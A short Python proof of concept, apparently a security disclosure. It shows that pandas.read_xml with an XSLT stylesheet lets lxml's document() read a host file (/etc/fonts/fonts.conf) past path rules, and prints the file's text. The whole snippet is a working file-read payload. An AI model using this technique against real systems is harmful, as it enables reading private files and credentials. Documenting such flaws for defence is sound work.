# read_xml hands its document and stylesheet to lxml, which fetches what they name: this XSLT
# reads a host XML file through document(), past every path rule (checked against Debian's
# pandas 1.5.3 and lxml 4.9.2, where it returns the file's text as a cell).
import io

xsl = """<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><data><row><v>
<xsl:value-of select="normalize-space(document('file:///etc/fonts/fonts.conf'))"/>
</v></row></data></xsl:template></xsl:stylesheet>"""
leak = pd.read_xml(io.StringIO("<data><row><v>1</v></row></data>"), stylesheet=io.StringIO(xsl))
print(leak.iloc[0, 0])
